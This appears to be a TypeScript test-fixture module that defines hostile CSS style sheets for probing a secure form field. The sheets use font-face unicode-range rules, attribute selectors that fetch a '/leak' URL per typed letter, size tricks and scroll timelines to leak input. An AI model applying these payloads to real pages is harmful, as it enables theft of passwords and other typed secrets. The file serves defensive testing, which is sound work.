const letters = Array.from('abcdefghijklmnopqrstuvwxyz0123456789');

/** One font per letter: the fonts that a page loads reveal the letters it shows. */
const fonts = ['system-ui', 'sans-serif', 'monospace', 'attack']
  .flatMap((family) =>
    letters.map((letter) => {
      const code = (letter.codePointAt(0) ?? 0).toString(16);
      return `@font-face { font-family: "${family}"; src: url(/leak?${letter}); unicode-range: U+${code} }`;
    }),
  )
  .join('\n');

/**
 * Style sheets that a host may give the form. Each turns typed characters into a size or a request
 * in a different way. `/leak` is a path of the host.
 */
export const hostileSheets = {
  attributes: letters
    .flatMap((letter, index) =>
      ['^=', '$=', '*='].map(
        (match) =>
          `[value${match}"${letter}"] { height: ${100 + index * 7}px !important; background: url(/leak?${letter}) }`,
      ),
    )
    .join('\n'),
  sizes: `* { field-sizing: content !important; contain: none !important; height: auto !important; max-height: none !important;
    white-space: pre-wrap !important; word-break: break-all !important; font-size: 64px !important;
    -webkit-text-security: none !important; }`,
  inheritance: `${fonts}
    html, body, form, * { font: 36px/2 attack, monospace !important; letter-spacing: 1em !important; text-security: none; }
    cf-secret, cf-secret *, input, textarea { writing-mode: vertical-lr !important }`,
  properties: `* { --cf-field: url(/leak?field); --cf-text: url(/leak?text); --cf-font: attack; --cf-radius: 50vh;
    --cf-danger: url(/leak?danger); }
    @property --cf-text { syntax: '<length>'; inherits: true; initial-value: 40px; }
    :focus-within { min-height: 50px } :has(:valid) { outline: 3px solid } :not(:placeholder-shown) { margin-top: 3px }`,
  parts: `${fonts}
    @keyframes grow { to { height: 300px; --cf-radius: 90px } }
    * { font: 900 60px/3 "system-ui" !important; letter-spacing: 1em !important; -webkit-text-security: none !important }
    cf-secret, cf-secret * { height: auto !important; block-size: max-content !important; contain: none !important;
      display: inline-block !important; width: max-content !important; field-sizing: content !important;
      overflow: visible !important; transition: all 1s !important; white-space: pre-wrap !important; }
    cf-secret::part(control), cf-secret::before { content: attr(value) }`,
} as const;

export type HostileSheet = keyof typeof hostileSheets;

/**
 * A sheet that needs a moving caret: the boxes around a field scroll, and their position becomes
 * the height of the document, which the frame reports to its page. In an engine with scroll
 * timelines, an ordinary field leaks its length under this sheet.
 */
export const scrollTimelineSheet = `
  @keyframes grow { to { min-height: 3000px } }
  html { timeline-scope: --caret }
  body { animation: grow linear both; animation-timeline: --caret }
  main, form, form * { overflow: auto; max-width: 60px; scroll-timeline: --caret inline }
  input, textarea, form :focus, form :focus-within > :last-child { min-width: 4000px }`;
